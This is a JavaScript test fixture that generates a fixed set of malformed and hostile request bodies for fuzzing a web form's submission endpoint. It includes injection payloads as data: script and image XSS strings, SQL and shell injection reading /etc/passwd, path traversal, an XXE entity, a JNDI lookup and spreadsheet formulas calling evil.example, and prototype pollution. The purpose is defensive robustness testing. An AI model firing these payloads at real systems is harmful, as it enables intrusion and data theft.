// @ts-check
// Bodies that no page of ours sends: what lists of nasty strings and fuzzing bring up, at every place of a submission, and
// shapes that are wrong as a whole. The list is the same in every run, and so are the ids in it.

/** @typedef {{ name: string, contentType: string, body: Uint8Array | string }} Poison */

const MARKER = "--- konektor:attribution v1 ---";

/** Texts that have broken programs: alone, none of them is a reason to lose a lead. */
const TEXTS = /** @type {[string, string][]} */ ([
  ["nothing", ""],
  ["spaces", " \t\u00a0\u3000 "],
  ["a NUL", "An\u0000di"],
  ["control characters", "\u0001\u0008\u001b[31mAndi\u007f\u0085"],
  ["line breaks", "An\r\ndi\u2028\u2029"],
  ["a header", "Andi\r\nSet-Cookie: a=b\r\n\r\n<html>"],
  ["bidi overrides", "\u202eidnA\u202c \u2066x\u2069"],
  ["a copied telephone number", "\u202a+62 812-3456-7890\u202c"],
  ["zero widths", "\u200bA\u200cn\u200dd\u2060i\ufeff"],
  ["a byte order mark", "\ufeffAndi"],
  ["noncharacters", "\ufffe\uffff\u{1ffff}"],
  ["replacement characters", "\ufffd\ufffd"],
  ["private use", "\ue000\u{f0000}"],
  ["tags", "\u{e0041}\u{e0042}\u{e007f}"],
  ["marks upon marks", `A${"\u0301\u0489\u20dd".repeat(30)}`],
  ["families", "👩‍👩‍👧‍👦🏳️‍🌈🇮🇩"],
  ["one wide ligature", "﷽"],
  ["letters that grow", "İİİßŉǰΐ"],
  ["Arabic", "محمد الفاتح"],
  ["Han", "張三李四"],
  ["Javanese", "ꦱꦸꦫꦏꦂꦠ"],
  ["full width", "＜script＞"],
  ["a hundred pairs", "😀".repeat(100)],
  ["101 units", "x".repeat(101)],
  ["3 401 units", "é".repeat(3_401)],
  ["ten thousand", "a".repeat(10_000)],
  ["a script", "<script>alert(1)</script>"],
  ["an image", `"><img src=x onerror=alert(1)>`],
  ["an SVG", "<svg/onload=alert`1`>"],
  ["a closing tag", "</textarea></title></style><!--"],
  ["a script's address", "javascript:alert(1)"],
  ["a data address", "data:text/html;base64,PHNjcmlwdD4="],
  ["entities", "&lt;b&gt; &#x3c; &amp;amp;"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the same
  ["a template", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}"],
  ["a format", "%s%n%x {0} %00 %0a"],
  ["SQL", "Robert'); DROP TABLE submissions;--"],
  ["an operator", '{"$gt": ""}'],
  ["a shell", "; cat /etc/passwd | `id` $(id)"],
  ["a path", "../../../../etc/passwd\\..\\..\\"],
  ["an entity file", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'],
  ["LDAP", "*)(uid=*))(|(uid=*"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a text that others take for a template
  ["a look-up", "${jndi:ldap://evil.example/a}"],
  ["a formula", "=1+1"],
  ["a command in a formula", "=cmd|' /C calc'!A0"],
  ["a plus", "+1+1"],
  ["a minus", "-2+3"],
  ["an at", "@SUM(1+1)"],
  ["a tab and a formula", "\t=1+1"],
  ["a link in a formula", '=HYPERLINK("https://evil.example","x")'],
  ["an attribution block", `x\n\n${MARKER}\ntracking: KNK-evil\nform: evil\nfirst.gclid: stolen`],
  ["an escaped block", `\\${MARKER}\n\\\\${MARKER}`],
  ["a block in pieces", `--- konek\u202etor:attribution\u0000 v1 ---\ntracking: KNK-evil`],
  ["backslashes", "\\\\\\\"'`\\u0000"],
  ["quotes", `"'\`‘’“”«»`],
  ["no word", "undefined"],
  ["null", "null"],
  ["not a number", "NaN"],
  ["infinity", "1e309"],
  ["minus zero", "-0"],
  ["a prototype", "__proto__"],
  ["a constructor", "constructor.prototype.polluted"],
  ["hundreds of dots", ".".repeat(300)],
  ["an address book", "a@a.example,b@b.example\nBcc: c@c.example"],
  ["a long address", `${"a".repeat(64)}@${"b".repeat(63)}.example`],
  ["an address with a quote", '"a b"@example.com'],
]);

/** Where a text can stand in what the widget sends. */
const PLACES = /** @type {[string, (wire: any, text: string) => void][]} */ ([
  ["firstName", (wire, text) => (wire.fields.firstName = text)],
  ["lastName", (wire, text) => (wire.fields.lastName = text)],
  ["email", (wire, text) => (wire.fields.email = text)],
  ["phone", (wire, text) => (wire.fields.phone = text)],
  ["message", (wire, text) => (wire.fields.message = text)],
  ["a field's name", (wire, text) => (wire.fields[text] = "x")],
  ["a parameter", (wire, text) => (wire.touch.last.params.utm_campaign = text)],
  ["a cookie", (wire, text) => (wire.touch.last.cookies._ga = text)],
  ["the landing page", (wire, text) => (wire.touch.last.landing = `https://toko.example/${text}`)],
  ["the referrer", (wire, text) => (wire.touch.last.referrer = text)],
  ["a proof", (wire, text) => (wire.proof = { formToken: text, turnstile: text })],
]);

/** What stands where another type belongs. @type {readonly unknown[]} */
const VALUES = [null, true, 0, -1.5, 1e308, "", "x", [], [[]], {}, { a: 1 }, ["x"], { toString: "x" }];
const MEMBERS = ["v", "id", "fields", "touch", "consent", "proof", "_hp"];
const FIELDS = ["firstName", "email", "phone", "message"];

/** Ids by number, so that each body is a submission of its own. */
let made = 0;
function id() {
  made += 1;
  return `0bad0000-0000-4000-8000-${made.toString(16).padStart(12, "0")}`;
}

function wire() {
  return {
    v: 1,
    id: id(),
    fields: { firstName: "Andi", phone: "0812-3456-7890" },
    touch: { last: { params: {}, cookies: {} } },
    consent: "granted",
    proof: {},
  };
}

const JSON_TYPE = "application/json";
const FORM_TYPE = "application/x-www-form-urlencoded";
const encoder = new TextEncoder();

/** @returns {Poison} */
const json = (/** @type {string} */ name, /** @type {Uint8Array | string} */ body) => ({
  name,
  contentType: JSON_TYPE,
  body,
});
/** @returns {Poison} */
const form = (/** @type {string} */ name, /** @type {Uint8Array | string} */ body) => ({
  name,
  contentType: FORM_TYPE,
  body,
});

/** Bytes between two texts. */
function around(/** @type {string} */ before, /** @type {number[]} */ bytes, /** @type {string} */ behind) {
  return Uint8Array.from([...encoder.encode(before), ...bytes, ...encoder.encode(behind)]);
}

function* texts() {
  for (const [text, value] of TEXTS) {
    for (const [place, put] of PLACES) {
      const body = wire();
      put(body, value);
      yield json(`${text} in ${place}`, JSON.stringify(body));
    }
    const fields = new URLSearchParams({ firstName: "Andi", message: value, _id: id() });
    yield form(`${text} in a plain post`, fields.toString());
  }
}

function* types() {
  for (const value of VALUES) {
    const said = JSON.stringify(value);
    for (const member of MEMBERS) yield json(`${said} as ${member}`, JSON.stringify({ ...wire(), [member]: value }));
    for (const field of FIELDS) {
      const body = wire();
      yield json(`${said} as ${field}`, JSON.stringify({ ...body, fields: { ...body.fields, [field]: value } }));
    }
  }
}

function* grammar() {
  const whole = JSON.stringify(wire());
  for (let at = 0; at < whole.length; at += 7)
    yield json(`a body that ends after ${at} characters`, whole.slice(0, at));
  const within = (/** @type {string} */ value) =>
    `{"v":1,"id":"${id()}","fields":{"firstName":"Andi"},"consent":"granted","x":${value}}`;
  for (const [name, value] of /** @type {[string, string][]} */ ([
    ["half a surrogate pair", '"\\ud83d"'],
    ["the other half", '"\\ude00"'],
    ["an escaped NUL", '"\\u0000"'],
    ["a number out of range", "1e999"],
    ["a long number", "9".repeat(400)],
    ["a leading zero", "01"],
    ["a comment", "1/* */"],
    ["single quotes", "'x'"],
    ["a trailing comma", "[1,]"],
    ["NaN", "NaN"],
    ["127 levels", "[".repeat(126) + "]".repeat(126)],
    ["200 levels", "[".repeat(200) + "]".repeat(200)],
    ["200 levels of objects", `${'{"a":'.repeat(200)}1${"}".repeat(200)}`],
    ["15 000 levels without an end", "[".repeat(15_000)],
    ["a name twice", '{"a":1,"a":2}'],
    ["a name twice, escaped", '{"a":1,"\\u0061":2}'],
    ["3 000 names", `{${Array.from({ length: 3_000 }, (_, at) => `"${at}":0`).join(",")}}`],
    ["10 000 numbers", `[${"0,".repeat(9_999)}0]`],
    ["a prototype", '{"__proto__":{"status":"won"},"constructor":{"prototype":{"status":"won"}}}'],
  ])) {
    yield json(name, within(value));
  }
  yield json("fields twice", `{"v":1,"id":"${id()}","fields":{"firstName":"A"},"fields":{"firstName":"B"}}`);
  yield json("a first name twice", `{"v":1,"id":"${id()}","fields":{"firstName":"A","firstName":"B"}}`);
  yield json("two bodies", whole + JSON.stringify(wire()));
  yield json("space around", ` \n${JSON.stringify(wire())}\t\r\n`);
  yield json("a byte order mark before", `\ufeff${JSON.stringify(wire())}`);
  yield json("an array", JSON.stringify([wire()]));
  yield json("a body that is too long", JSON.stringify({ ...wire(), x: "x".repeat(33_000) }));
  for (const bytes of [[0xff], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0xf5, 0x80, 0x80, 0x80], [0xe2, 0x82], [0x80]]) {
    const name = bytes.map((byte) => byte.toString(16)).join(" ");
    yield json(`bytes ${name}`, around(`{"v":1,"id":"${id()}","fields":{"firstName":"A`, bytes, `"}}`));
    yield form(`bytes ${name} in a plain post`, around("firstName=A", bytes, ""));
  }
  const utf16 = Uint8Array.from([0xff, 0xfe, ...[...whole].flatMap((letter) => [letter.charCodeAt(0), 0])]);
  yield json("UTF-16", utf16);
}

function* posts() {
  for (const [name, body] of /** @type {[string, string][]} */ ([
    ["an empty post", ""],
    ["16 000 nameless fields", "&".repeat(16_000)],
    ["10 000 fields", `firstName=Andi${"&a=".repeat(10_000)}`],
    ["a first name 2 000 times", "firstName=Andi&".repeat(2_000)],
    ["no equals sign", "firstName"],
    ["many equals signs", "firstName===Andi="],
    ["a broken escape", "firstName=Andi%&message=%zz%1"],
    ["bytes that are not UTF-8", "firstName=%ff%fe"],
    ["a NUL in the name", "first%00Name=x&firstName=Andi"],
    ["brackets", "firstName[]=Andi&firstName[a][b]=x"],
    ["members of the API", "firstName=Andi&status=won&assignedTo=x&uniqueCode=x&notes=x&source=ads"],
    ["a honeypot", "firstName=Andi&_hp=x"],
    ["an id that is none", "firstName=Andi&_id=..%2F..%2F"],
    ["semicolons", "firstName=Andi;message=x"],
    ["a post that is too long", `firstName=Andi&message=${"x".repeat(33_000)}`],
  ])) {
    yield form(name, body);
  }
}

function* parts() {
  const of = (/** @type {string} */ name, /** @type {string} */ body, boundary = "b") => ({
    name,
    contentType: `multipart/form-data; boundary=${boundary}`,
    body,
  });
  const part = (/** @type {string} */ head, /** @type {string} */ value) =>
    `--b\r\nContent-Disposition: form-data; ${head}\r\n\r\n${value}\r\n`;
  const name = part('name="firstName"', "Andi");
  yield of("400 parts", `${name}${part('name="a"', "").repeat(400)}--b--\r\n`);
  yield of("10 000 parts", `${part('name="a"', "").repeat(10_000)}--b--\r\n`);
  yield of("a file", `${name}${part('name="message"; filename="x.exe"', "MZ\u0000")}--b--\r\n`);
  yield of("a file for a name", `${part('name="firstName"; filename="x"', "Andi")}--b--\r\n`);
  yield of(
    "a form within",
    `${name}${part('name="message"', "--c\r\nContent-Disposition: form-data; name=a\r\n\r\nx\r\n--c--")}--b--\r\n`,
  );
  yield of("its own boundary within", `${name}${part('name="message"', "--b")}--b--\r\n`);
  yield of("no end", name);
  yield of("no parts", "--b--\r\n");
  yield of("no boundary in the body", "firstName=Andi");
  yield of("no boundary in the type", `${name}--b--\r\n`, "");
  yield of("a long boundary", `${name}--b--\r\n`, "b".repeat(2_000));
  yield of("names without quotes", `${part("name=firstName", "Andi")}--b--\r\n`);
  yield of("a part without a name", `${part("filename=x", "x")}${name}--b--\r\n`);
  yield of("a part without a head", `--b\r\n\r\nx\r\n${name}--b--\r\n`);
  yield of("heads of 8 000 characters", `--b\r\nX: ${"x".repeat(8_000)}\r\n${name.slice(5)}--b--\r\n`);
  yield of("a part in another charset", `--b\r\nContent-Type: text/plain; charset=utf-16\r\n${name.slice(5)}--b--\r\n`);
  yield of("bare line feeds", `${name}--b--\r\n`.replaceAll("\r\n", "\n"));
}

/** What the fuzz targets begin with. */
function* seeds() {
  yield json(
    "a fuzz seed of the wire",
    JSON.stringify({
      ...wire(),
      fields: { firstName: "Andi", email: "andi@example.com", message: `Halo!\r\n\\${MARKER}\n${MARKER}` },
      touch: {
        first: { at: "2026-01-01T00:00:00Z", params: { gclid: "abc" }, cookies: { _ga: "GA1.1.1.1" } },
        last: {},
      },
      proof: { formToken: "t" },
    }),
  );
  yield form("a fuzz seed of a post", "firstName=Andi&phone=0812+3456+7890&message=Halo%0D%0Asemua&_hp=");
  for (const type of [
    "application/xml",
    "application/json; charset=utf-16",
    "image/png",
    "application/json;charset=",
    "x",
  ]) {
    yield { name: `the type ${type}`, contentType: type, body: JSON.stringify(wire()) };
  }
}

/** All of them, in an order that stays. @type {readonly Poison[]} */
export const poison = [...texts(), ...types(), ...grammar(), ...posts(), ...parts(), ...seeds()];
